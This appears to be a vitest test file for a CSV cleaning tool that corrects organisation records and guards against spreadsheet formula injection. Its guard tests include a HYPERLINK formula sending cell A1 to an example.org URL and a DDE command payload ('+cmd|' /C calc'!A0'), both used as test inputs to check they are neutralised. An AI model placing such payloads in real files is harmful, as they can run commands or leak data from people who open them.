/** Corrections, other people's columns, spreadsheets' habits: what a sheet becomes. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { adaptSheet, askColumns, ID_FROM_NAME, tableOfHeader } from "../../../src/core/record/adapt.ts";
import { slug } from "../../../src/core/record/cells/identifiers.ts";
import { checkTable } from "../../../src/core/record/check.ts";
import { applyCorrections, correctAll, guardedRows } from "../../../src/core/record/corrections.ts";
import { withCouncilCodes } from "../../../src/core/record/council-names.ts";
import { calendarMonth, yearlyDay } from "../../../src/core/record/day-habits.ts";
import { recordCells, rowDifference, sheetCells } from "../../../src/core/record/difference.ts";
import { isFormula, withGuard, withoutGuard } from "../../../src/core/record/formula.ts";
import { columnMeant } from "../../../src/core/record/header.ts";
import { idFromName } from "../../../src/core/record/id.ts";
import { TABLES, tableOfFile } from "../../../src/core/record/tables/registry.ts";
import { parseSheet, writeCsv } from "../../../src/io/csv.ts";
import { TEST_DAY } from "../../effects.ts";
import { checkRows, csvOf, rowOf, tableNamed } from "../../records.ts";

const organisations = tableNamed("organisations");
const context = { today: TEST_DAY };
const sheetOf = (...rows: Parameters<typeof rowOf>[1][]) =>
  parseSheet(
    "organisations.csv",
    csvOf(
      "organisations",
      rows.map((row) => rowOf("organisations", row)),
    ),
  );

describe("corrections", () => {
  const broken = () =>
    sheetOf(
      { postcode: "za11aa", last_checked: "7/3/2024" },
      { id: "other", name: "Other", latitude: "-1.001", longitude: "52.001" },
      { id: "third", name: "Third", website: "#N/A", public_phone: "1422000000" },
    );

  it("put right what was proposed, and leave the given sheet as it was", () => {
    const sheet = broken();
    const { issues } = checkTable(organisations, sheet, context);
    const before = JSON.stringify(sheet);
    const next = applyCorrections(organisations, sheet, issues);
    expect(JSON.stringify(sheet)).toBe(before);
    expect(checkTable(organisations, next, context).issues).toEqual([]);
    const [first, second, third] = sheetCells(next);
    expect([first?.["postcode"], first?.["last_checked"]]).toEqual(["ZA1 1AA", "2024-03-07"]);
    expect([second?.["latitude"], second?.["longitude"]]).toEqual(["52.001", "-1.001"]);
    expect([third?.["website"], third?.["public_phone"]]).toEqual(["", "01422000000"]);
  });

  it("can be applied one at a time", () => {
    const sheet = broken();
    const { issues } = checkTable(organisations, sheet, context);
    const one = issues.filter(({ column }) => column === "postcode");
    const left = checkTable(organisations, applyCorrections(organisations, sheet, one), context).issues;
    expect(left.length).toBe(issues.length - 1);
  });

  it("rename columns, never to a name that is taken", () => {
    const sheet = parseSheet(
      "calls.csv",
      "id,Titel,title,source_url,licence,last_checked\na,b,c,https://example.org,CC0-1.0,2024-01-01\n",
    );
    const calls = tableNamed("calls");
    const { header } = applyCorrections(calls, sheet, checkTable(calls, sheet, context).issues);
    expect(header).toEqual(sheet.header);
    const alone = parseSheet(
      "calls.csv",
      "id,Titel,source_url,licence,last_checked\na,b,https://example.org,CC0-1.0,2024-01-01\n",
    );
    const { sheet: fixed } = correctAll(calls, alone, (one) => checkTable(calls, one, context).issues);
    expect(fixed.header[1]).toBe("title");
    expect(checkTable(calls, fixed, context).rows).toHaveLength(1);
  });

  it("make an id from the name where it is empty, unlike all others of the file", () => {
    const names = ["Merrow Trust", "Merrow Trust", "Merrow Trust 2", "", "!"];
    const rows = [
      rowOf("organisations", { id: "Merrow Trust", org_ids: "", note: "named" }),
      ...names.map((name, at) =>
        rowOf("organisations", { id: "", name, council: "", latitude: `5${at}`, longitude: "" }),
      ),
    ];
    const sheet = parseSheet("organisations.csv", csvOf("organisations", rows));
    const { issues } = checkTable(organisations, sheet, context);
    const empty = issues.filter(({ code, column }) => code === "required-empty" && column === "id");
    expect(empty.map(({ suggestion }) => suggestion)).toEqual([
      "merrow-trust-2",
      "merrow-trust-3",
      "merrow-trust-2-2",
      undefined,
      undefined,
    ]);
    expect(empty[0]?.message).toMatch(/^“Id” is empty, .* From the name it is “merrow-trust-2”\.$/);
    const { sheet: fixed } = correctAll(
      organisations,
      sheet,
      (one) => checkTable(organisations, one, context).issues,
    );
    const ids = fixed.rows.map(({ cells }) => cells[0]).filter((id) => id !== "");
    expect(new Set(ids).size).toBe(4);
  });

  it("give a council that is named its code, where the names of councils are at hand", () => {
    const councils = [
      { code: "E06990001", name: "Merrow" },
      { code: "E07990002", name: "St. Ann's and Dale" },
      { code: "E07990003", name: "Twice" },
      { code: "E07990004", name: "Twice" },
    ];
    const proposed = (column: string, value: string): string | undefined => {
      const { issues } = checkRows("organisations", [rowOf("organisations", { [column]: value })]);
      const [issue] = withCouncilCodes(issues, organisations, councils);
      return issue?.suggestion;
    };
    expect(proposed("council", "Merrow")).toBe("E06990001");
    expect(proposed("council", "merrow borough council")).toBe("E06990001");
    expect(proposed("council", "London Borough of Merrow")).toBe("E06990001");
    expect(proposed("areas_served", "St Anns & Dale; E07990009;Merrow;Merrow Council")).toBe(
      "E07990002;E07990009;E06990001",
    );
    for (const other of ["Twice", "Merro", "Council", "Merrow;St Anns and Dale"])
      expect([other, proposed("council", other)]).toEqual([other, undefined]);
    expect(proposed("areas_served", "Merrow;Elsewhere")).toBeUndefined();
    expect(proposed("website", "Merrow")).toBeUndefined();
  });

  it("come to an end, and what they leave proposes nothing more", () => {
    const { sheet, applied } = correctAll(
      organisations,
      broken(),
      (one) => checkTable(organisations, one, context).issues,
    );
    expect(applied.length).toBe(5);
    expect(checkTable(organisations, sheet, context).issues).toEqual([]);
  });

  it("are written so that no spreadsheet runs them, and read again as they were", () => {
    const sheet = sheetOf({ name: "+44 Club", note: "- a dash", latitude: "52.001", longitude: "-1.001" });
    const rows = guardedRows(sheet);
    const row = Object.fromEntries(rows[0]?.map((name, at) => [name, rows[1]?.[at]]) ?? []);
    expect([row["name"], row["note"], row["longitude"]]).toEqual(["'+44 Club", "'- a dash", "-1.001"]);
    const again = checkTable(organisations, parseSheet("organisations.csv", writeCsv(rows)), context);
    expect(again.issues).toEqual([]);
    expect(again.rows[0]?.record["name"]).toBe("+44 Club");
  });

  it("guard what a number's column holds and is no number", () => {
    const sheet = sheetOf({ income_gbp: '=HYPERLINK("http://example.org/?"&A1,"go")', longitude: "-1+1" });
    const rows = guardedRows(sheet);
    const row = Object.fromEntries(rows[0]?.map((name, at) => [name, rows[1]?.[at]]) ?? []);
    expect(row["income_gbp"]).toBe('\'=HYPERLINK("http://example.org/?"&A1,"go")');
    expect(row["longitude"]).toBe("'-1+1");
    expect(row["latitude"]).toBe("52.00100");
  });

  it("leave no cell that a spreadsheet would run, whatever its column", () => {
    const risky = fc.stringMatching(/^[=+@\t\r-]?[-+=0-9.a-z()]{0,6}$/);
    fc.assert(
      fc.property(fc.array(risky, { minLength: 1, maxLength: 8 }), (cells) => {
        const sheet = { ...sheetOf({}), header: cells.map((_, at) => `c${at}`), rows: [{ line: 2, cells }] };
        const [, guarded = []] = guardedRows(sheet);
        expect(guarded).toHaveLength(cells.length);
        for (const cell of guarded) expect(cell).not.toMatch(/^(?!-\d+(?:\.\d+)?$)[=+\-@\t\r]/);
      }),
    );
  });
});

describe("guards", () => {
  it("go on and off again over any text", () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.stringMatching(/^'*[=+\-@].{0,5}$/)), (text) => {
        expect(withoutGuard(withGuard(text))).toBe(text);
        expect(withGuard(text)).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });
  it.each([
    ["=1+1", true],
    ["=HYPERLINK(1)", true],
    ["@SUM(A1)", true],
    ["+cmd|' /C calc'!A0", true],
    ["- a list", false],
    ["@handle", false],
    ["+44 1422 000000", false],
    ["-1.5", false],
  ])("%s is a formula: %s", (text, expected) => expect(isFormula(text)).toBe(expected));
});

describe("someone else's columns", () => {
  const csv = [
    "Groups of 2024,,,,",
    "Printed on 1 February,,,,",
    "Organisation name,Post code,lat,Long,Members",
    "Fictional Hall,ZA1 1AA,52.001,-1.001,12",
    "Fictional Hall,ZA1 1AB,52.001,-1.001,9",
  ].join("\n");

  it.each([
    ["Organisation name", "name"],
    ["Post code", "postcode"],
    ["lat", "latitude"],
    ["LONGITUDE", "longitude"],
    ["E-mail", "public_email"],
    ["Turnover", "income_gbp"],
    ["Name of organisation", "name"],
    ["Shoe size", undefined],
  ])("%s is %s", (name, column) => expect(columnMeant(organisations, name)).toBe(column));

  it("are asked about once, with guesses, below the title", () => {
    const { strange, missing, proposal } = askColumns(organisations, parseSheet("groups.csv", csv), TEST_DAY);
    expect(strange.map(({ name, guess, example }) => [name, guess, example])).toEqual([
      ["Organisation name", "name", "Fictional Hall"],
      ["Post code", "postcode", "ZA1 1AA"],
      ["lat", "latitude", "52.001"],
      ["Long", "longitude", "-1.001"],
      ["Members", undefined, "12"],
    ]);
    expect(missing).toContain("kind");
    expect(proposal.fills).toEqual({ id: ID_FROM_NAME, last_checked: TEST_DAY });
  });

  it("become ours, with ids of their own", () => {
    const given = parseSheet("groups.csv", csv);
    const { proposal } = askColumns(organisations, given, TEST_DAY);
    const fills = {
      ...proposal.fills,
      kind: "charity",
      status: "active",
      is_anchor: "no",
      location_precision: "postcode",
      source_url: "https://example.org",
      licence: "CC-BY-4.0",
      summary: "A group.",
    };
    const checked = checkTable(
      organisations,
      adaptSheet(organisations, given, { ...proposal, fills }),
      context,
    );
    expect(checked.issues.map(({ code, line }) => [code, line])).toEqual([["title-rows", 1]]);
    expect(checked.rows.map(({ line, record }) => [line, record["id"]])).toEqual([
      [4, "fictional-hall"],
      [5, "fictional-hall-2"],
    ]);
  });

  it("tell which table they are", () => {
    for (const table of TABLES) {
      const sheet = parseSheet("x.csv", `${Object.keys(table.columns).join(",")}\n`);
      expect(tableOfHeader(sheet)?.name).toBe(table.name);
    }
    expect(tableOfHeader(parseSheet("x.csv", "a,b\n1,2\n"))).toBeUndefined();
  });

  it("are all looked at where one is missing, and no row is taken", () => {
    const sheet = parseSheet("organisations.csv", "id,name,postcode\nA B,Hall,hx15nb\n");
    const { issues, rows } = checkTable(organisations, sheet, context);
    expect(rows).toEqual([]);
    expect(issues.map(({ line, column, code }) => `${line} ${column} ${code}`)).toContain(
      "2 postcode untidy-postcode",
    );
  });
});

describe("names of files", () => {
  it.each([
    ["data/projects.csv", "projects"],
    ["Projects (2).csv", "projects"],
    ["organisations-corrected.csv", "organisations"],
    ["rights-windows.2024.csv", "rights-windows"],
    ["projectsold.csv", undefined],
    ["list.csv", undefined],
  ])("%s is %s", (file, name) => expect(tableOfFile(file)?.name).toBe(name));
});

describe("ids", () => {
  it.each([
    ["Halifax Opportunities Trust", "halifax-opportunities-trust"],
    ["Café & Co.’s", "cafe-and-co-s"],
    ["東京", ""],
    ["Index", "index-1"],
    ["Index of Halls", "index-of-halls"],
    ["  --  ", ""],
  ])("%s gives %s", (name, id) => expect(idFromName(name)).toBe(id));
  it("are one, whether a row is given its id or a name stands in the place of one", () => {
    const parsed = slug.parse("Food & Energy Hub");
    expect(parsed).toEqual({ ok: false, code: "not-an-id", suggestion: "food-and-energy-hub" });
    expect(idFromName("Food & Energy Hub")).toBe("food-and-energy-hub");
  });
  it("are always ids", () => {
    fc.assert(
      fc.property(fc.string(), (name) => {
        expect(idFromName(name)).toMatch(/^(?:[a-z0-9]+(?:-[a-z0-9]+)*)?$/);
      }),
    );
  });
});

describe("spreadsheets' dates", () => {
  it.each([
    ["March 2024", "2024-03"],
    ["Mar-24", "2024-03"],
    ["3/2024", "2024-03"],
    ["13/2024", undefined],
    ["Smarch 2024", undefined],
  ])("%s as a month is %s", (text, month) => expect(calendarMonth(text)).toBe(month));
  it.each([
    ["07-Jan", "07-01"],
    ["7-1", "07-01"],
    ["13-1", undefined],
    ["summer", undefined],
  ])("%s as a day of every year is %s", (text, day) => expect(yearlyDay(text)).toBe(day));
});

describe("differences", () => {
  const table = tableNamed("projects");
  it("pass over two writings of one value", () => {
    const before = rowOf("projects", { latitude: "52.0010", partner_names: "A; B" });
    const after = { ...before, latitude: "52.001", partner_names: "A;B", summary: "Another." };
    expect(rowDifference(table, before, after).map(({ column }) => column)).toEqual(["summary"]);
  });
  it("are none between a row and its own record", () => {
    for (const { name } of TABLES) {
      const row = rowOf(name);
      const record = checkRows(name, [row]).rows[0]?.record ?? {};
      expect(rowDifference(tableNamed(name), row, recordCells(tableNamed(name), record))).toEqual([]);
    }
  });
});
